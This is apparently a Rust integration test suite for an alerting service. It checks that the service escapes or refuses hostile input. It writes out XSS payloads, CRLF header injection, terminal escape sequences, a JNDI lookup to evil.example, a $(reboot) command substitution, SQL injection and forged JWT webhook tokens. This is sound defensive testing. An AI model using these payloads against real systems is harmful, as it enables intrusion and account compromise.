//! Attacks, as their authors would write them.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use callout::vonage::signature::hash;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use super::program::Program;
use super::{KEY, MESSENGER_ID, PHONE, SIGNATURE_SECRET, Stage, client, configure, problem};

const PATIENCE: Duration = Duration::from_secs(20);

/// Texts that mean something to a browser, a terminal, a log, a header or a template.
const EVIL: [&str; 12] = [
    "<script>alert(1)</script>",
    "</h1></main><form action=https://evil.example method=post><button>I have seen it</button></form>",
    "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "\"><style>*{display:none}</style><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "javascript:alert(1)",
    "&lt;b&gt; &amp;&#60;script&#62;",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} \u{9b}2J\u{8}\u{8}\u{8}",
    "one\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "2026-01-01T00:00:00Z ERROR a line of its own\n2026-01-01T00:00:00Z  INFO and another",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/a} $(reboot) `reboot` %s%n %00",
    "\u{202e}txet desrever\u{202c} \u{2066}isolate\u{2069} zero\u{200b}width \u{feff}",
    "'; DROP TABLE alerts; --",
];

/// Where the acknowledge link of the first message leads.
async fn link(stage: &Stage) -> String {
    let sent = stage.sandbox.wait_for_sent(1, PATIENCE).await.expect("a message");
    let text = sent.text.expect("it has words");
    let (_, link) = text.rsplit_once("https://callout.example.org").expect("it ends in a link");
    link.trim().to_owned()
}

#[tokio::test]
async fn evil_texts_come_back_from_the_api_as_they_were_and_do_nothing_on_the_page_or_a_terminal() {
    for text in EVIL {
        let stage = Stage::usual().await;
        let id = stage.raise(&json!({ "message": text, "details": { text: [text] }, "source": "nagios" })).await;
        let alert = stage.alert(&id).await;
        assert_eq!(alert["message"], text);
        assert_eq!(alert["details"], json!({ text: [text] }));

        let response = stage.request(Method::GET, &link(&stage).await).send().await.unwrap();
        let policy = response.headers()["content-security-policy"].to_str().unwrap().to_owned();
        let page = response.text().await.unwrap();
        let tags: Vec<&str> = page.split('<').skip(1).filter_map(|rest| rest.split(['>', ' ']).next()).collect();
        let usual = "!DOCTYPE html head meta meta meta title /title style /style /head body main p /p h1 /h1 p time /time \
                     /p form button /button /form p strong /strong /p /main /body /html";
        assert_eq!(tags, usual.split_whitespace().collect::<Vec<_>>(), "{text:?} adds nothing to the page");
        let (_, style) = page.split_once("<style>").unwrap();
        let (style, _) = style.split_once("</style>").unwrap();
        let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, style.as_bytes());
        assert!(policy.contains(&format!("style-src 'sha256-{}'", STANDARD.encode(digest))), "{policy}");
        assert!(policy.starts_with("default-src 'none';") && !policy.contains("unsafe"), "{policy}");
        assert!(policy.contains("form-action 'self'") && policy.contains("frame-ancestors 'none'"), "{policy}");

        for command in ["show", "list"] {
            let url = format!("http://{}", stage.address);
            let arguments: &[&str] =
                if command == "show" { &["show", &id, "--url", &url] } else { &["list", "--url", &url] };
            let mut callout = Command::new(env!("CARGO_BIN_EXE_callout"));
            callout.args(arguments).env_clear().env("CALLOUT_API_KEY", KEY);
            let output = tokio::task::spawn_blocking(move || callout.output()).await.unwrap().unwrap();
            assert!(output.status.success(), "{output:?}");
            let shown = String::from_utf8(output.stdout).unwrap();
            let acted_on = shown.chars().find(|character| character.is_control() && *character != '\n');
            assert_eq!(acted_on, None, "{command}: {shown:?}");
            assert!(shown.lines().all(|line| !line.starts_with("2026-01-01")), "{shown}");
        }
        stage.end().await;
    }
}

#[tokio::test]
async fn evil_names_make_no_lines_of_their_own_in_the_log() {
    let folder = tempfile::TempDir::new().unwrap();
    configure(folder.path(), "127.0.0.1:1".parse().unwrap(), &format!("api_key: {KEY}"));
    let program = Program::serve(folder.path(), &[]);
    let address = program.address().await;
    let call = |path: &str| client().post(format!("http://{address}{path}")).bearer_auth(KEY);
    for text in EVIL {
        let alert = call("/alerts").json(&json!({ "message": text, "source": "nagios" })).send().await.unwrap();
        let alert: Value = alert.json().await.unwrap();
        let path = format!("/alerts/{}/acknowledge", alert["id"].as_str().unwrap());
        assert_eq!(call(&path).json(&json!({ "by": text })).send().await.unwrap().status(), 200);
    }
    let said = program.stop().await;
    assert!(said.contains("acknowledged"), "{said}");
    for line in said.lines() {
        assert!(line.chars().all(|character| !character.is_control()), "{line:?}");
        assert!(!line.starts_with("2026-01-01") && !line.starts_with("Set-Cookie"), "{line:?}");
    }
}

#[tokio::test]
async fn no_header_can_be_put_into_an_answer() {
    let stage = Stage::usual().await;
    for path in
        ["/alerts/%0d%0aSet-Cookie:%20a=b", "/a/%0d%0aSet-Cookie:%20a=b", "/%0d%0aLocation:%20https://evil.example"]
    {
        let response = stage.with_key(KEY, Method::GET, path).send().await.unwrap();
        assert!(response.headers().get("set-cookie").is_none() && response.headers().get("location").is_none());
        assert_eq!(problem(response).await.0, 404, "{path}");
    }
    let request = stage.with_key(KEY, Method::POST, "/alerts").header("idempotency-key", "a\tb");
    let response = request.json(&json!({ "message": "x", "dedup_key": "a\r\nSet-Cookie: a=b" })).send().await.unwrap();
    assert!(response.headers().get("set-cookie").is_none());
    let host = "GET /alerts HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-For: 127.0.0.1\r\nConnection: close\r\n\r\n";
    let address = stage.address;
    let answer = tokio::task::spawn_blocking(move || {
        let mut stream = TcpStream::connect(address).unwrap();
        stream.write_all(host.as_bytes()).unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        answer
    });
    let answer = answer.await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 401") && !answer.contains("evil"), "{answer}");
    stage.end().await;
}

#[tokio::test]
async fn what_only_looks_at_a_link_acknowledges_nothing() {
    let stage = Stage::usual().await;
    let id = stage.raise(&json!({ "message": "Main server is down" })).await;
    let link = link(&stage).await;
    let bots = [
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "facebookexternalhit/1.1",
        "WhatsApp/2.23.20.0",
        "Viber/13.3.0",
        "TelegramBot (like TwitterBot)",
        "Twitterbot/1.0",
        "Discordbot/2.0",
        "LinkedInBot/1.0",
        "SkypeUriPreview Preview/0.5",
        "Googlebot/2.1",
        "bingbot/2.0",
        "Mozilla/5.0 Safe Links Scanner",
    ];
    for (method, name, value) in
        bots.into_iter().flat_map(|bot| [(Method::GET, "user-agent", bot), (Method::HEAD, "user-agent", bot)]).chain([
            (Method::GET, "purpose", "prefetch"),
            (Method::GET, "sec-purpose", "prefetch;prerender"),
            (Method::GET, "x-moz", "prefetch"),
        ])
    {
        let response = stage.request(method.clone(), &link).header(name, value).send().await.unwrap();
        assert_eq!(response.status(), 200, "{method} {value}");
        assert_eq!(response.headers()["cache-control"], "no-store");
        assert_eq!(response.headers()["referrer-policy"], "no-referrer");
        assert!(response.headers()["x-robots-tag"].to_str().unwrap().contains("noindex"));
    }
    for method in [Method::PUT, Method::PATCH, Method::DELETE, Method::OPTIONS] {
        assert_eq!(stage.request(method, &link).send().await.unwrap().status(), 405);
    }
    assert_eq!(stage.alert(&id).await["status"], "escalating");
    assert_eq!(stage.request(Method::POST, &link).send().await.unwrap().status(), 200);
    assert_eq!(stage.alert(&id).await["acknowledged"]["via"], "link");
    stage.end().await;
}

#[tokio::test]
async fn every_answer_tells_browsers_to_run_load_and_frame_nothing() {
    let stage = Stage::usual().await;
    for (path, key) in [
        ("/", ""),
        ("/alerts", ""),
        ("/alerts", KEY),
        ("/healthz", ""),
        ("/readyz", ""),
        ("/metrics", ""),
        ("/a/x", ""),
    ] {
        let response = stage.with_key(key, Method::GET, path).send().await.unwrap();
        let header = |name: &str| response.headers().get(name).map(|value| value.to_str().unwrap().to_owned());
        assert_eq!(header("x-content-type-options").as_deref(), Some("nosniff"), "{path}");
        assert_eq!(header("x-frame-options").as_deref(), Some("DENY"), "{path}");
        assert_eq!(header("referrer-policy").as_deref(), Some("no-referrer"), "{path}");
        assert_eq!(header("cross-origin-resource-policy").as_deref(), Some("same-origin"), "{path}");
        assert!(header("content-security-policy").unwrap().starts_with("default-src 'none'"), "{path}");
        assert_eq!(header("access-control-allow-origin"), None, "{path}");
        assert_eq!(header("server"), None, "{path}");
    }
    stage.end().await;
}

#[tokio::test]
async fn hundreds_who_answer_at_once_leave_one_answer() {
    let stage = Stage::usual().await;
    let id = stage.raise(&json!({ "message": "Main server is down" })).await;
    let first = stage.sandbox.wait_for_sent(1, PATIENCE).await.unwrap();
    // The stand-in's own reports must not come in between the looks at the end.
    stage.until(&id, |alert| alert["attempts"][0]["status"] == "delivered").await;
    let link = link(&stage).await;
    let read = json!({ "message_uuid": &*first.message_uuid, "to": MESSENGER_ID, "from": "108450971234567",
                       "channel": "messenger", "timestamp": "2026-11-23T08:00:00Z", "status": "read" });
    let http = client();
    let url = format!("http://{}", stage.address);
    let requests = (0..300).map(|n| {
        let path = |word| format!("{url}/alerts/{id}/{word}");
        let by = json!({ "by": format!("person {n}") });
        match n % 5 {
            0 => http.post(path("acknowledge")).bearer_auth(KEY).json(&by),
            1 => http.post(path("escalate")).bearer_auth(KEY).json(&by),
            2 => http.post(format!("{url}{link}")),
            3 => signed(http.post(format!("{url}/webhooks/status")), &read),
            _ => http.post(path(if n > 200 { "resolve" } else { "acknowledge" })).bearer_auth(KEY).json(&by),
        }
    });
    let answers = futures_util::future::join_all(requests.map(reqwest::RequestBuilder::send)).await;
    let mut statuses = BTreeMap::new();
    for answer in answers {
        *statuses.entry(answer.unwrap().status().as_u16()).or_insert(0) += 1;
    }
    assert!(statuses.keys().all(|status| matches!(status, 200 | 409)), "{statuses:?}");
    let alert = stage.alert(&id).await;
    assert_eq!((&alert["status"], &alert["current"]), (&json!("resolved"), &Value::Null));
    let events: Vec<&str> =
        alert["timeline"].as_array().unwrap().iter().filter_map(|entry| entry["event"].as_str()).collect();
    let count = |event| events.iter().filter(|other| **other == event).count();
    assert_eq!((count("resolved"), count("acknowledged"), count("raised")), (1, 1, 1), "{events:?}");
    assert_eq!(stage.alert(&id).await, alert, "nothing more comes of it");
    stage.end().await;
}

fn token(header: &Header, claims: &Value, secret: &str) -> String {
    jsonwebtoken::encode(header, claims, &EncodingKey::from_secret(secret.as_bytes())).unwrap()
}

/// A webhook as Vonage signs it.
fn signed(request: reqwest::RequestBuilder, body: &Value) -> reqwest::RequestBuilder {
    let body = body.to_string();
    let claims = json!({ "iat": 1_772_331_307, "jti": "x", "iss": "Vonage", "payload_hash": hash(body.as_bytes()) });
    let token = token(&Header::new(Algorithm::HS256), &claims, SIGNATURE_SECRET);
    request.bearer_auth(token).header("content-type", "application/json").body(body)
}

#[tokio::test]
async fn forged_webhooks_are_refused_and_nothing_of_them_is_kept() {
    let stage = Stage::usual().await;
    let id = stage.raise(&json!({ "message": "Main server is down" })).await;
    let sent = stage.sandbox.wait_for_sent(1, PATIENCE).await.unwrap();
    stage.until(&id, |alert| alert["attempts"][0]["status"] == "delivered").await;
    let before = stage.alert(&id).await;
    for (uuid, path) in [(&*sent.message_uuid, "status"), ("3f0c9d52-6b1e-4c7a-9d84-2b7e51a0c6f3", "inbound")] {
        let body = json!({ "message_uuid": uuid, "to": MESSENGER_ID, "from": PHONE, "channel": "messenger",
                           "timestamp": "2026-11-23T08:00:00Z", "status": "read" })
        .to_string();
        let claims = json!({ "iat": 1_772_331_307, "iss": "Vonage", "payload_hash": hash(body.as_bytes()) });
        let good = token(&Header::default(), &claims, SIGNATURE_SECRET);
        let [head, middle, tail] = good.split('.').collect::<Vec<_>>()[..] else { panic!("a token has three parts") };
        let none = token(&Header { kid: Some("none".into()), ..Header::default() }, &claims, "");
        let other_body = token(&Header::default(), &json!({ "iat": 1, "payload_hash": hash(b"{}") }), SIGNATURE_SECRET);
        let without_hash =
            token(&Header::default(), &json!({ "iat": 1_772_331_307, "iss": "Vonage" }), SIGNATURE_SECRET);
        let forged = [
            format!("Bearer {none}"),
            format!("Bearer {other_body}"),
            format!("Bearer {without_hash}"),
            format!("Bearer {}", token(&Header::default(), &claims, "another-secret-of-more-than-32-characters")),
            format!("Bearer {}", token(&Header::new(Algorithm::HS384), &claims, SIGNATURE_SECRET)),
            format!("Bearer {}", token(&Header::new(Algorithm::HS512), &claims, SIGNATURE_SECRET)),
            format!("Bearer {head}.{middle}."),
            format!("Bearer {head}.{middle}"),
            format!("Bearer {head}.{middle}.{tail}."),
            format!("Bearer {head}.{middle}.{tail}=="),
            format!("Bearer {head}.{middle}.{}", "A".repeat(tail.len())),
            format!("Bearer eyJhbGciOiJub25lIn0.{middle}."),
            format!("Bearer eyJhbGciOiJOb25lIn0.{middle}.{tail}"),
            format!("Bearer {KEY}"),
            "Bearer a.b.c".to_owned(),
            format!("Bearer {}", "x".repeat(5_000)),
        ];
        for header in forged {
            let request = stage.request(Method::POST, &format!("/webhooks/{path}"));
            let request = request.header("authorization", &header).header("content-type", "application/json");
            let (status, kind, _) = problem(request.body(body.clone()).send().await.unwrap()).await;
            assert_eq!((status, kind.as_str()), (401, "bad-signature"), "{header}");
        }
        let unsigned =
            stage.request(Method::POST, &format!("/webhooks/{path}")).header("content-type", "application/json");
        assert_eq!(problem(unsigned.body(body.clone()).send().await.unwrap()).await.0, 503);
    }
    assert_eq!(stage.alert(&id).await, before);
    assert_eq!(stage.rows("parked"), 0, "nothing is kept for later");
    stage.end().await;
}

#[tokio::test]
async fn genuine_webhooks_sent_again_a_hundred_times_change_nothing_more() {
    let stage = Stage::usual().await;
    let id = stage.raise(&json!({ "message": "Main server is down" })).await;
    let sent = stage.sandbox.wait_for_sent(1, PATIENCE).await.unwrap();
    let now = stage.alert(&id).await["created_at"].clone();
    let status = |status: &str| {
        json!({ "message_uuid": &*sent.message_uuid, "to": MESSENGER_ID, "from": "108450971234567", "channel": "messenger",
                "timestamp": now, "status": status })
    };
    let unknown = json!({ "message_uuid": "3f0c9d52-6b1e-4c7a-9d84-2b7e51a0c6f3", "to": PHONE, "from": "447700900101",
                          "channel": "sms", "timestamp": now, "status": "delivered" });
    let reply = json!({ "message_uuid": "5b1c0c3e-6a5f-4a3e-9d53-0b9a3f6d7e21", "channel": "messenger", "from": MESSENGER_ID,
                        "to": "108450971234567", "timestamp": now, "message_type": "text", "text": "on it" });
    let genuine = [status("submitted"), status("delivered"), status("read"), reply, unknown];
    let http = client();
    let post = |body: &Value| signed(http.post(format!("http://{}/webhooks/inbound", stage.address)), body).send();
    for body in &genuine {
        assert_eq!(post(body).await.unwrap().status(), 200);
    }
    let (before, n_kept) = (stage.alert(&id).await, stage.rows("parked"));
    assert_eq!(before["status"], "acknowledged");
    for _ in 0..10 {
        let again = (0..50).map(|n| post(&genuine[n * 7 % genuine.len()]));
        for answer in futures_util::future::join_all(again).await {
            assert_eq!(answer.unwrap().status(), StatusCode::OK);
        }
    }
    assert_eq!(stage.alert(&id).await, before);
    assert_eq!(stage.rows("parked"), n_kept);
    stage.end().await;
}

#[tokio::test]
async fn json_that_stands_too_deep_is_refused_and_hurts_nobody() {
    let stage = Stage::usual().await;
    for (open, close) in [("[", "]"), ("{\"a\":", "}")] {
        for depth in [130, 50_000] {
            let deep = format!("{}1{}", open.repeat(depth), close.repeat(depth));
            let body = format!("{{\"message\":\"x\",\"details\":{{\"a\":{deep}}}}}");
            let request = stage.with_key(KEY, Method::POST, "/alerts").header("content-type", "application/json");
            let (status, ..) = problem(request.body(body).send().await.unwrap()).await;
            assert!(matches!(status, 400 | 413), "{status} at {depth}");
        }
    }
    let whole = stage.with_key(KEY, Method::GET, "/alerts").send().await.unwrap();
    assert_eq!(whole.json::<Value>().await.unwrap()["alerts"], json!([]));
    stage.end().await;
}
